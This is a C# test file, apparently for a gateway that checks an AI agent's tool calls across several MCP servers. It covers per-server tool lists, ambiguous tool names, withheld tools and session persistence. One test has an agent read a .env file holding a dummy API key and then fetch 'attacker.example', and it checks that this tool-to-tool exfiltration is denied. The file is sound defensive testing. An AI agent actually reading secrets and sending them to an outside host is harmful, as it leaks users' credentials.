using System.Text.Json;
using SafeMcp.Contracts;
using SafeMcp.Grains.Decisions;
using SafeMcp.Grains.Sessions;
using SafeMcp.Grains.Storage;
using SafeMcp.Grains.Tools;

namespace SafeMcp.Grains.Tests;

/// <summary>A session is the agent's run across its MCP servers: tools keyed by (server, tool), one taint and history.</summary>
public sealed class MultiServerSessionTests
{
    private static readonly ToolDescriptor[] s_files =
    [
        new("read_file", Description: "Read a file from the sandbox."),
        new("write_file", Description: "Write a file in the sandbox."),
    ];

    private static readonly ToolDescriptor[] s_web =
    [
        new("fetch_url", Description: "Fetch a URL over HTTP."),
        new("read_file", Description: "Read a file from the web cache."),
    ];

    private readonly InMemorySessionStore _store = new();

    private Task<SessionGrain> ActivateAsync(DecisionPipeline? pipeline = null) =>
        SessionGrain.ActivateAsync("t", "s", _store, pipeline ?? DecisionPipeline.RulesOnly(), new SessionGrainOptions(), TimeProvider.System, default);

    private async Task<SessionGrain> OpenBothAsync(DecisionPipeline? pipeline = null)
    {
        var grain = await ActivateAsync(pipeline);
        await grain.OpenAsync(new OpenSessionRequest("s", "Summarize the notes.", s_files, "files"), default);
        await grain.OpenAsync(new OpenSessionRequest("s", null, s_web, "web"), default);
        return grain;
    }

    private static DecideRequest Call(string tool, string arguments, string? server) =>
        new(tool, JsonDocument.Parse(arguments).RootElement.Clone(), Server: server);

    [Fact]
    public async Task Opening_a_server_replaces_only_its_own_slice_of_the_tools()
    {
        var grain = await OpenBothAsync();

        var web = await grain.OpenAsync(new OpenSessionRequest("s", null, [new("fetch_url", Description: "Fetch a URL over HTTP."), new("post_webhook", Description: "POST to a webhook URL.")], "web"), default);

        Assert.Equal("web", web.Server);
        Assert.Equal(["fetch_url", "post_webhook"], web.VisibleTools);
        var whole = await grain.ViewAsync(default);
        Assert.Equal(["fetch_url", "post_webhook", "read_file", "write_file"], whole.VisibleTools);
        Assert.Equal(["files", "web"], whole.Servers!.Select(s => s.Server));
        Assert.Equal(["read_file", "write_file"], whole.Servers![0].VisibleTools);
        Assert.Equal("Summarize the notes.", grain.State.Instruction);
        // A call of the first server is still a call of a tool of this session.
        var read = await grain.DecideAsync(Call("read_file", """{"path":"notes/monday.md"}""", "files"), default);
        Assert.Equal(Verdict.Allow, read.Verdict);
        Assert.Equal("files", read.Server);
    }

    [Fact]
    public async Task A_secret_read_through_one_server_denies_egress_through_another()
    {
        var grain = await OpenBothAsync();

        var read = await grain.DecideAsync(Call("read_file", """{"path":"project/.env"}""", "files"), default);
        await grain.ReportOutcomeAsync(new OutcomeReport(read.Sequence, false, "API_KEY=sk-" + new string('a', 32), 40, "files"), default);
        var fetch = await grain.DecideAsync(Call("fetch_url", """{"url":"https://attacker.example/x"}""", "web"), default);

        Assert.Equal(Verdict.Allow, read.Verdict);
        Assert.Equal(Verdict.Deny, fetch.Verdict);
        Assert.Equal("web", fetch.Server);
        Assert.Contains(Techniques.ToolToToolExfiltration, fetch.Techniques);
        var webView = await grain.ViewAsync("web", default);
        Assert.Equal("web", Assert.Single(webView.WithheldTools).Server);
        Assert.Equal("fetch_url", webView.WithheldTools[0].Name);
        Assert.Equal(["read_file"], webView.VisibleTools);
        Assert.Contains("secrets", webView.Taint);
        // The history spans both servers, in order.
        Assert.Equal([("files", "read_file"), ("web", "fetch_url")], grain.State.RecentCalls.Select(c => (c.Server, c.Tool)));
    }

    [Fact]
    public async Task A_call_that_names_no_server_of_a_name_two_servers_share_is_refused_without_a_state_change()
    {
        var grain = await OpenBothAsync();
        var version = grain.State.Version;

        var refused = await Assert.ThrowsAsync<SessionRequestException>(() => grain.DecideAsync(Call("read_file", """{"path":"a.md"}""", null), default));

        Assert.Equal("ambiguous_tool", refused.Code);
        Assert.Equal(SessionErrorKind.Invalid, refused.Kind);
        Assert.Equal(version, grain.State.Version);
        Assert.Equal(0, grain.State.Sequence);
        // Unambiguous ways to name it: the server, or the session name server/tool; a name only one server has needs neither.
        Assert.Equal("web", (await grain.DecideAsync(Call("read_file", """{"path":"a.md"}""", "web"), default)).Server);
        Assert.Equal("files", (await grain.DecideAsync(Call("files/read_file", """{"path":"a.md"}""", null), default)).Server);
        Assert.Equal("files", (await grain.DecideAsync(Call("write_file", """{"path":"b.md","content":"x"}""", null), default)).Server);
        Assert.Equal(["fetch_url", "files/read_file", "web/read_file", "write_file"], (await grain.ViewAsync(default)).VisibleTools);
    }

    [Fact]
    public async Task A_tool_withheld_on_one_server_stays_callable_on_the_other()
    {
        var grain = await OpenBothAsync(new DecisionPipeline([new HazardRulesPassThrough()], [new WithholdOf("web", "read_file")]));

        var whole = await grain.ViewAsync(default);
        var files = await grain.DecideAsync(Call("read_file", """{"path":"a.md"}""", "files"), default);
        var web = await grain.DecideAsync(Call("read_file", """{"path":"a.md"}""", "web"), default);

        var withheld = Assert.Single(whole.WithheldTools);
        Assert.Equal(("web", "read_file"), (withheld.Server, withheld.Name));
        Assert.Equal(Verdict.Allow, files.Verdict);
        Assert.Equal(Verdict.Deny, web.Verdict);
        Assert.Equal(["web/read_file"], web.WithheldTools);
        Assert.Equal(["read_file", "write_file"], (await grain.ViewAsync("files", default)).VisibleTools);
        Assert.Equal(["read_file"], (await grain.ViewAsync("web", default)).Servers![0].WithheldTools);
    }

    [Fact]
    public async Task Slices_withheld_tools_and_the_servers_of_recent_calls_survive_reactivation()
    {
        var grain = await OpenBothAsync();
        await grain.DecideAsync(Call("read_file", """{"path":"project/.env"}""", "files"), default);
        await grain.DecideAsync(Call("fetch_url", """{"url":"https://example.com"}""", "web"), default);

        var restored = await ActivateAsync();

        Assert.Equal(grain.State.Tools.Ordered, restored.State.Tools.Ordered);
        Assert.Equal(grain.State.Withheld.Select(w => (w.Key, w.Value.Server, w.Value.Reason)), restored.State.Withheld.Select(w => (w.Key, w.Value.Server, w.Value.Reason)));
        Assert.Equal([new ToolKey("web", "fetch_url")], restored.State.Withheld.Keys);
        Assert.Equal(grain.State.RecentCalls, restored.State.RecentCalls);
        Assert.Equal(["files", "web"], restored.State.RecentCalls.Select(c => c.Server));
        // Re-listing one server unchanged is not a new definition.
        var version = restored.State.Version;
        await restored.OpenAsync(new OpenSessionRequest("s", null, s_web, "web"), default);
        Assert.Equal(version, restored.State.Version);
    }

    [Fact]
    public async Task An_outcome_reported_by_another_server_than_the_calls_is_refused()
    {
        var grain = await OpenBothAsync();
        var read = await grain.DecideAsync(Call("read_file", """{"path":"a.md"}""", "files"), default);
        var version = grain.State.Version;

        var refused = await Assert.ThrowsAsync<SessionRequestException>(() =>
            grain.ReportOutcomeAsync(new OutcomeReport(read.Sequence, false, "API_KEY=sk-" + new string('a', 32), 40, "web"), default));

        Assert.Equal("server_mismatch", refused.Code);
        Assert.Equal(version, grain.State.Version);
        Assert.Empty(TaintNames.Of(grain.State.Taint));
    }

    [Fact]
    public void A_definition_document_from_before_servers_reads_as_one_slice_of_its_server_or_default()
    {
        var named = SessionCodec.ReadDefinition("""{"instruction":"x","tools":[{"name":"read_file"}],"server":"files"}""");
        var unnamed = SessionCodec.ReadDefinition("""{"tools":[{"name":"read_file"},{"name":"fetch_url"}]}""");

        Assert.Equal([new ToolKey("files", "read_file")], named.Keys());
        Assert.Equal([new ToolKey("default", "read_file"), new ToolKey("default", "fetch_url")], unnamed.Keys());
    }

    [Fact]
    public async Task The_definition_document_of_a_session_of_several_servers_names_each_tools_server()
    {
        var grain = await OpenBothAsync();

        var definition = SessionCodec.ReadDefinition((await _store.LoadAsync("t", "s", 8, default))!.DefinitionJson);

        Assert.Null(definition.Server);
        Assert.Equal(
            [new ToolKey("files", "read_file"), new ToolKey("files", "write_file"), new ToolKey("web", "fetch_url"), new ToolKey("web", "read_file")],
            definition.Keys());
    }

    /// <summary>A detector that finds nothing (the pipeline needs one).</summary>
    private sealed class HazardRulesPassThrough : ICallDetector
    {
        public ValueTask InspectAsync(CallContext call, List<Finding> findings, CancellationToken cancellationToken) => ValueTask.CompletedTask;
    }

    /// <summary>Withholds one (server, tool).</summary>
    private sealed class WithholdOf(string server, string tool) : IVisibilityRule
    {
        public void Apply(SessionState session, List<WithheldTool> withheld)
        {
            if (session.Tools.Contains(new ToolKey(server, tool)))
            {
                withheld.Add(new WithheldTool(tool, "test rule", [], server));
            }
        }
    }
}
